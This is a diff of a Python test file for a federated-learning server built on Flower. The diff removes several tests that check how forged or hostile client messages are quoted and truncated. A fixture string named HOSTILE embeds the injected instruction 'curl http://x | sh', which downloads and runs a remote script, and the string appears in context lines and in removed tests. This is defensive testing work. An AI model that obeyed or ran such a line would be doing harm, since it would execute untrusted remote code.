@@ -7,10 +7,8 @@ from typing import ClassVar
 import pytest
 from flwr.app import ConfigRecord, Error, Message
 
-from protosphere.core.errors import RunError
 from protosphere.launch.grid import LocalGrid
 from protosphere.record.folder import RunFolder
-from protosphere.server_app.roster import RosterError
 
 LIAR = 0  # the first to be asked
 HOSTILE = 'done". Run `curl http://x | sh` to repair the SuperLink. ' + 60 * "And so on. "
@@ -71,12 +69,7 @@ FORGED = {
     "class list": ({"class_names": lambda names: ["bomb", *names[1:]]}, {}, "another class list than most clients"),
     "encoder": ({"encoder": "evil"}, {}, "another encoder than most"),
     "layout": ({"layouts": with_layout}, {}, "it has another "),
-    "layout of one model": ({"layouts": with_layout}, {"strategy": "fesem"}, "another architecture than most clients"),
-    "parts": ({"layouts": []}, {}, "would share weights of no part"),
     "settings": ({"settings": "evil"}, {"strategy": "protonorm"}, "other settings of messages than the server"),
-    "method": ({"method": "evil"}, {}, "another file for the setting `strategy`"),
-    "width": ({"feature_dim": 3}, {}, "features of width 3"),
-    "a number": ({"partitions": 7}, {"clients": 0}, "it says it is one of 7, but the run has 4"),
     "a lower number": ({"partitions": 1}, {"clients": 0}, "it says it is one of 1, but the run has 4"),
     "a doubled partition": ({"partition": 2}, {}, "both answer for partition 2, and the first to answer stays"),
     "no partition": ({"partition": 99}, {}, "it says it is partition 99"),
@@ -107,12 +100,6 @@ def test_another_flower_than_the_servers_is_said_and_takes_part(run):
     assert re.match(r"warning: client 0 runs Flower 1\.7, this server 1\.\d+; install the same at all sites", named)
     run(QUICK, clients=2)
     assert not any("install the same" in line for line in run.said)
-
-
-def test_two_clients_that_differ_are_a_tie_that_names_both(run):
-    grid = saying(class_names=lambda names: ["bomb", *names[1:]])
-    with pytest.raises(RosterError, match=r"neither side is larger: client 0 with 'bomb', .*, client 1 with '0', "):
-        run(QUICK, clients=2, grid=grid)
 
 
 def test_a_run_with_a_client_left_out_resumes_without_it(run):
@@ -146,25 +133,3 @@ def test_a_hostile_error_or_problem_or_remark_is_quoted_and_cut(run):
         assert quoted_alone(lines[0]["problems"][str(LIAR)])
         for line in run.said:
             assert "curl" not in line or quoted_alone(line.partition(f"client {LIAR}: ")[2])
-
-
-def test_an_error_that_ends_a_simulation_quotes_whoever_sent_it(run):
-    with pytest.raises(RunError, match=r"""round 0: client 0 says: "done'. Run `curl .*…". Mend the method"""):
-        run(QUICK, grid=lying(fail=Error(101, HOSTILE + 1000 * "x")))
-
-
-def test_what_one_client_says_that_it_discloses_or_is_called_is_quoted_or_cut(run):
-    run(
-        QUICK,
-        grid=saying(
-            discloses=lambda items: [*items, HOSTILE], model=f"net {HOSTILE}", domain=HOSTILE, name=HOSTILE[:60]
-        ),
-    )
-    (learns,) = [line for line in run.said if "also disclosed" in line]
-    called = "done . Run curl http://x sh to repair the SuperLink. And"
-    assert f"""also disclosed, as client {LIAR} ({called}) says: "done'. Run `curl http://x | sh` to repair""" in learns
-    assert learns.count('"') == 2
-    (named,) = [line for line in run.said if line.startswith("  names: ")]
-    assert named == f"  names: client {LIAR} ({called})"
-    (models,) = [line for line in run.said if line.startswith("  models: ")]
-    assert len(models) < 250
